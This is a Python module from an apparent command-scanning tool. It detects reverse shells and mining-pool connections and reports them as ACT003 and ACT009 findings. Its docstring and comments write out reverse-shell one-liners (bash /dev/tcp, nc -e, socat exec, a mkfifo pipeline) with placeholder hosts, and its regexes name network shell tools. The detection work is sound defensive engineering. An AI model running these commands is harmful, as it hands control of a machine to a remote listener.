"""The machine handed to another: a shell whose input and output are wired to a socket on a host that is not the
project's (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, `socat exec:bash tcp:HOST:PORT`, a
one-line program that connects and spawns a shell): whoever listens there types the next commands, an executor fed
from the network (ACT003). Or its processors given to a mining pool (a `stratum+tcp://HOST:PORT` address): work
for someone else that runs past the session (ACT009). Read from the command whatever the prose around it says."""
from __future__ import annotations

import re

from guard.scan.lazyre import lazy

TYPE_CHECKING = False
if TYPE_CHECKING:
    from guard.scan.actions.commands import Candidate
    from guard.scan.actions.flows import Walk

DEV_SOCKET = lazy(r"/dev/(?:tcp|udp)/([^/\s'\"`;|&<>()]+)/(\d+)")
# The socket's stream joined to a shell's: stdin duplicated from it, an interactive shell, a shell fed by a pipe.
WIRED = lazy(r"\b(?:ba|z|k|da)?sh\s+-\w*i\b|0>&1|0<&\s*\d|<&\s*\d|\|\s*(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh\b")
SHELL_PATH = lazy(r"(?:^|[\s'\"=:,])(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh\b|\bcmd(?:\.exe)?\b|\bpowershell\b|\bpwsh\b")
EXEC_FLAGS = frozenset(("-e", "-c", "--exec", "--sh-exec", "--lua-exec"))
SOCAT_TARGET = lazy(r"^(?:tcp|tcp4|tcp6|tcp-connect|openssl|openssl-connect|udp|udp4|udp-connect):([^:,\s]+):(\d+)",
                    re.I)
PROGRAM_CONNECT = lazy(r"connect\(\s*\(\s*['\"]?([\w.-]+)['\"]?\s*,\s*(\d+)")
STRATUM = lazy(r"\bstratum(?:\+[a-z0-9]+)*://([\w.-]+):(\d+)", re.I)  # (the mining pools' protocol)
PROGRAM_SHELL = lazy(r"pty\.spawn|os\.dup2|\bexec\s*\(|subprocess|/bin/(?:ba)?sh|IO\.popen|\bfork\b")


def remote_shells(cand: Candidate, walk: Walk) -> list[tuple[str, str, str, str | None]]:
    """(id, message, severity, target) of each shell a candidate hands to a foreign host."""
    found = []
    for host, port, wired in _sockets(cand):
        target = f"tcp://{host}:{port}"
        parsed = walk.host(target)
        if parsed is None or walk.trusted(target) or "." not in host:
            continue  # (a compose service's name, a variable: nobody's host that can be read)
        if wired:
            found.append(("ACT003", f"a shell wired to a socket on {host}:{port}: whoever listens there runs "
                                    "commands here", "error", target))
        else:
            found.append(("ACT003", f"the shell opens a socket to {host}:{port}, which is not the project's",
                          "warning", target))
    given = " ".join(a for p in cand.pipelines for c in p for a in c.argv[1:])  # (an argument, not an address alone)
    for pool in STRATUM.finditer(given) if "stratum" in given.lower() else ():
        target = f"tcp://{pool.group(1)}:{pool.group(2)}"
        if "." in pool.group(1) and not walk.trusted(target):
            found.append(("ACT009", f"the machine's processors given to a mining pool at {pool.group(1)} "
                                    "(stratum), working for someone else past the session", "error", target))
    return found


def _sockets(cand: Candidate) -> list[tuple[str, str, bool]]:
    """(host, port, a shell wired to it) for each socket the candidate opens."""
    text = cand.text
    found = [(m.group(1), m.group(2), WIRED.search(text) is not None) for m in DEV_SOCKET.finditer(text)] \
        if "/dev/" in text else []
    for pipeline in cand.pipelines:
        interactive = any(WIRED.search(" ".join(c.argv)) for c in pipeline)  # (mkfifo f; cat f | sh -i | nc H P)
        for cmd in pipeline:
            words = [a for a in cmd.argv[1:] if not a.startswith("-")]
            if cmd.name in ("nc", "ncat", "netcat"):
                shell = EXEC_FLAGS & set(cmd.argv) and any(SHELL_PATH.search(a) for a in cmd.argv[1:])
                rest = [a for a in words if not SHELL_PATH.search(a)]
                if len(rest) >= 2 and rest[-1].isdigit() and (shell or interactive):
                    found.append((rest[-2], rest[-1], True))
            elif cmd.name == "socat" and any(a.lower().startswith(("exec:", "system:")) for a in cmd.argv):
                found += [(m.group(1), m.group(2), True) for a in cmd.argv[1:] for m in [SOCAT_TARGET.match(a)] if m]
            elif cmd.body and PROGRAM_SHELL.search(cmd.body) and "socket" in cmd.body.lower():
                found += [(m.group(1), m.group(2), True) for m in PROGRAM_CONNECT.finditer(text)]
    return found
